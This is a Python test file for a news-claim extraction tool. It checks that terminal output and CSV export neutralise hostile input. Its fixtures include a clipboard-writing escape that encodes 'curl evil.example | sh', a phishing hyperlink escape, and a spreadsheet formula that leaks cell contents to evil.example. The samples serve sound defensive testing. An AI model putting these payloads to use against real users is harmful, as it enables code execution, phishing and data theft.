"""Hostile text (escape sequences, control characters, bidi overrides, Rich markup, CRLF line
ends, spreadsheet formulas) from articles, titles, file names and options never reaches the
terminal raw, never crashes a report, and never runs in a spreadsheet (issue 11)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

import claimscope
from claimscope.render import STYLES, render_document
from claimscope.terminal import safe

# What a terminal acts on: ESC (CSI/OSC sequences), BEL, BS, CR, the C1 controls (0x9b is a
# one-byte CSI) and the bidi overrides, embeddings and isolates.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
LINK = "\x1b]8;;https://evil.example/login\x1b\\"  # OSC 8 hyperlink opener
CURSOR_QUERY = "\x1b[6n"
HOSTILE_ARTICLE = (
    "date 2023-03-01\n"
    f'"We will not withdraw{CLEAR} from the region," the defence minister Oleh{LINK} Petrenko '
    "told reporters in Odesa\x07.\n"
    f"The governor said that 12 people were{CURSOR_QUERY} evacuated from Kharkiv overnight"
    f"{CLIPBOARD}.\n"
    "Mayor Ivan Fedorov said that 40 people were evacuated from Zaporizhzhia\u202e on Monday.\n"
    "The regional governor said that the shelling of Sumy\x9b2J had not stopped\r"
    "The army said everything is fine.\n"
)


def run(*args: str, columns: int = 200, **kw) -> subprocess.CompletedProcess:
    """The CLI as a user runs it, on a pipe (no colour codes of Rich's own)."""
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "TTY_COMPATIBLE")}
    env["COLUMNS"] = str(columns)
    return subprocess.run(
        [sys.executable, "-m", "claimscope", *args], capture_output=True, text=True, env=env, **kw
    )


def assert_clean(proc: subprocess.CompletedProcess) -> None:
    for name, stream in (("stdout", proc.stdout), ("stderr", proc.stderr)):
        raw = sorted({hex(ord(c)) for c in RAW.findall(stream)})
        assert not raw, f"raw control characters {raw} on {name}:\n{stream!r}"
    assert "Traceback" not in proc.stderr, proc.stderr


def hostile_ledger(tmp_path: Path) -> tuple[Path, list[dict]]:
    # a file name is data too: an origin with an escape sequence and markup in it
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "report\x1b[2J[bold]odesa.txt").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    feed = {
        "title": f"Breaking{CLIPBOARD} [/b]news\u202e from Kharkiv\r",
        "date": "2023-03-02",
        "text": "The mayor said that 30 buildings were damaged in Kharkiv on Monday.",
    }
    (folder / "feed.jsonl").write_text(json.dumps(feed) + "\n", encoding="utf-8")
    db = tmp_path / "hostile.db"
    proc = run("analyze", str(folder), "--db", str(db), "-q")
    assert proc.returncode == 0, proc.stderr
    assert_clean(proc)
    records = [
        json.loads(x) for x in run("claims", "--db", str(db), "-f", "jsonl").stdout.split("\n") if x
    ]
    assert any("\x1b" in r["text"] for r in records)  # the test is only worth it if data is hostile
    return db, records


# ---------------------------------------------------------------------- the sanitiser
def test_reliability_terminal_safe_makes_controls_visible():
    assert safe("a\x1b[2Jb") == "a\u241b[2Jb"
    assert safe("bell\x07") == "bell\u2407"
    assert safe("csi\x9b6n") == "csi\ufffd6n"
    assert safe("Kyiv\u202eviyK") == "Kyiv\ufffdviyK"
    assert safe("over\rwrite") == "over\u240dwrite"
    assert safe("two\nlines") == "two\u240alines"
    assert safe("two\r\nlines\rx", newlines=True) == "two \nlines\u240dx"
    assert safe("tab\there [b]kept[/b]") == "tab\there [b]kept[/b]"


@given(st.text())
def test_reliability_terminal_safe_keeps_length_and_leaves_nothing_raw(text):
    for newlines in (False, True):
        shown = safe(text, newlines=newlines)
        assert len(shown) == len(text)
        assert not RAW.search(shown)
        assert ("\n" in shown) == (newlines and "\n" in text)


# ---------------------------------------------------------------------- item 1: escapes
def test_reliability_terminal_cli_prints_no_raw_escapes(tmp_path):
    db, records = hostile_ledger(tmp_path)
    doc_id = records[0]["doc_id"]
    views = [
        run("show", doc_id, "--db", str(db)),
        run("show", doc_id, "--db", str(db), columns=80),
        *(run("show", d, "--db", str(db)) for d in {r["doc_id"] for r in records}),
        run("claims", "--db", str(db)),
        run("claims", "--db", str(db), columns=80),  # the narrow block view
        run("situations", "--db", str(db)),
    ]
    views += [run("why", r["id"], "--db", str(db)) for r in records]
    views += [
        run("situation", sid, "--db", str(db))
        for sid in {r["situation_id"] for r in records if r.get("situation_id")}
    ]
    for proc in views:
        assert proc.returncode == 0, proc.stderr
        assert_clean(proc)
    shown = views[0].stdout
    assert "\u241b[2J" in shown and "\u2407" in shown  # made visible, not dropped
    assert "report\u241b[2J[bold]odesa.txt" in shown  # the origin, markup and all
    titles = "".join(v.stdout for v in views[2:])
    assert "Breaking\u241b]52;c;" in titles and "[/b]news\ufffd from Kharkiv" in titles


def test_reliability_terminal_claim_views_escape_claimant_and_date(monkeypatch):
    """Claimant names and dates come from the store: the table and the narrow block view print
    them visibly, markup and all."""
    from claimscope import cli_common

    doc = claimscope.analyze_text(
        "The governor said that 12 people were evacuated from Kharkiv.",
        date="2023-03-01",
        lang="en",
    )
    (claim,) = doc.claims
    claim.claimant.name = f"Oleh{LINK}[/b] Petrenko\u202e"
    claim.doc_date = "2023-03-[red]01"
    for width in (200, 100):  # the table, then the block view
        buf = io.StringIO()
        monkeypatch.setattr(cli_common, "out", Console(file=buf, width=width, highlight=False))
        cli_common.print_claims([claim])
        text = buf.getvalue()
        assert not RAW.search(text), repr(text)
        assert "2023-03-[red]01" in text
        assert "Oleh\u241b]8;;" in text and "Petrenko\ufffd" in text
    assert "Oleh\u241b]8;;https://evil.example/login\u241b\\[/b] Petrenko\ufffd" in text


def test_reliability_terminal_analyze_log_lines_are_safe(tmp_path):
    bad = tmp_path / "bad\x1b]52;c;eA==\x07.jsonl"
    bad.write_text('{"text": 1}\n{not json\n', encoding="utf-8")
    proc = run("-v", "analyze", str(bad), "--db", str(tmp_path / "l.db"), "-q")
    assert proc.returncode == 1
    assert_clean(proc)
    assert "bad\u241b]52;c;eA==\u2407.jsonl" in proc.stderr


# ---------------------------------------------------------------------- item 2: markup
def test_reliability_terminal_failure_with_markup_is_printed_not_interpreted(tmp_path):
    folder = tmp_path / "in"
    (folder / "x[").mkdir(parents=True)
    # the origin of this file reads ".../x[/b]feed.jsonl": a closing tag without an opening one
    (folder / "x[" / "b]feed.jsonl").write_text("{not json [/i]\n{nor this\n", encoding="utf-8")
    (folder / "good.txt").write_text(
        "date 2023-03-01\nThe governor said that 12 people were evacuated from Kharkiv.\n",
        encoding="utf-8",
    )
    db = tmp_path / "m.db"
    proc = run("analyze", str(folder), "--db", str(db), "-q")
    assert proc.returncode == 1
    assert_clean(proc)
    failures = [x for x in proc.stderr.splitlines() if x.startswith("failed:")]
    assert len(failures) == 2 and all("x[/b]feed.jsonl" in x for x in failures), proc.stderr
    assert "1 new" in proc.stderr


def test_reliability_terminal_date_with_markup_fails_in_one_line(tmp_path):
    article = tmp_path / "plain.txt"
    article.write_text("The governor said that 12 people were evacuated.\n", encoding="utf-8")
    proc = run("analyze", str(article), "--db", str(tmp_path / "d.db"), "-q", "--date", "[/red]")
    assert proc.returncode == 1
    assert_clean(proc)
    assert "[/red]" in proc.stderr and "failed:" in proc.stderr


def test_reliability_terminal_library_error_with_markup_is_one_line(tmp_path):
    db = tmp_path / "e.db"
    run("analyze", str(tmp_path / "none"), "--db", str(db), "-q")
    for args in (("show", "[/b]\x1b[2J", "--db", str(db)), ("why", "[/red]", "--db", str(db))):
        proc = run(*args)
        assert proc.returncode == 1
        assert_clean(proc)
        assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
        assert proc.stderr.startswith("error:") and "[/" in proc.stderr
    proc = run("claims", "--db", str(tmp_path / "x[/b].db"))
    assert proc.returncode == 1 and "x[/b].db: no such ledger" in proc.stderr
    assert_clean(proc)


# ---------------------------------------------------------------------- item 3: CRLF
CRLF_ARTICLE = (
    "date 2023-03-02\r\n"
    "According to the regional governor, 120 people were evacuated from Kharkiv overnight.\r\n"
    '"The shelling has not stopped for three days," said a spokesman for the city council.\r\n'
    "The mayor said that 30 buildings were damaged in Sumy on Monday.\r\n"
)


def _styled(text, style: str) -> set[str]:
    return {text.plain[s.start : s.end] for s in text.spans if s.style == style}


def test_reliability_terminal_show_highlights_crlf_documents_in_place(tmp_path):
    article = tmp_path / "crlf.txt"
    article.write_bytes(CRLF_ARTICLE.encode("utf-8"))
    db = tmp_path / "crlf.db"
    with claimscope.Ledger(str(db)) as ledger:
        ledger.analyze([str(article)])
        (doc_id,) = {c.doc_id for c in ledger.claims()}
        doc = ledger.document(doc_id)
    assert "\r\n" in doc.text and len(doc.claims) >= 2
    text = render_document(doc)
    assert len(text.plain) == len(doc.text)
    claimants = _styled(text, STYLES["claimant"])
    for c in doc.claims:
        assert doc.text[c.claimant.start : c.claimant.end] in claimants
    assert {"said", "According to"} <= _styled(text, STYLES["cue"])
    shown = run("show", doc_id, "--db", str(db))
    assert_clean(shown)


def test_reliability_terminal_render_makes_a_lone_cr_visible_in_place():
    doc = claimscope.analyze_text(
        "Nothing happened here.\rThe governor said that 12 people were evacuated from Kharkiv.",
        date="2023-03-01",
        lang="en",
    )
    text = render_document(doc)
    assert text.plain == doc.text.replace("\r", "\u240d")
    (claim,) = doc.claims
    assert doc.text[claim.claimant.start : claim.claimant.end] in _styled(text, STYLES["claimant"])


# ---------------------------------------------------------------------- item 4: CSV formulas
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Kharkiv")'


def test_reliability_terminal_csv_cells_cannot_start_a_formula(tmp_path):
    article = tmp_path / "formula.txt"
    article.write_text(
        f"date 2023-03-01\n{FORMULA} the governor said on Monday.\n", encoding="utf-8"
    )
    db = tmp_path / "f.db"
    assert run("analyze", str(article), "--db", str(db), "-q").returncode == 0
    (record,) = [
        json.loads(x) for x in run("claims", "--db", str(db), "-f", "jsonl").stdout.split("\n") if x
    ]
    assert record["text"].startswith(FORMULA)  # JSONL is data: as it was
    out = tmp_path / "claims.csv"
    run("export", "--format", "csv", "--out", str(out), "--db", str(db))
    for source in (
        out.read_text(encoding="utf-8"),
        run("claims", "--db", str(db), "-f", "csv").stdout,
    ):
        (row,) = csv.DictReader(io.StringIO(source))
        assert row["text"] == "'" + record["text"]
        assert json.loads(row["record"]) == record  # the JSON column starts with "{": untouched


def test_reliability_terminal_csv_escapes_every_formula_start():
    from claimscope.export import records_to_string
    from claimscope.records import claim_record

    doc = claimscope.analyze_text(
        "The governor said that 12 people were evacuated from Kharkiv.",
        date="2023-03-01",
        lang="en",
    )
    rec = claim_record(doc.claims[0])
    starts = {"=": "=1+1", "+": "+1+1", "-": "-1+1", "@": "@SUM(A1)", "\t": "\t=1", "\r": "\r=1"}
    for cell in starts.values():
        rec["text"] = cell
        rec["claimant"]["name"] = cell
        (row,) = csv.DictReader(io.StringIO(records_to_string([rec], "csv"), newline=""))
        assert row["text"] == row["claimant"] == "'" + cell
        assert row["start"] == str(rec["span"][0])  # numbers stay numbers
    for cell in ("Kharkiv = 1", "-", "over\rwritten", "two\r\nlines"):
        rec["text"] = cell
        (row,) = csv.DictReader(io.StringIO(records_to_string([rec], "csv"), newline=""))
        assert row["text"] == (cell if cell[0] != "-" else "'-")  # one row, the cell whole
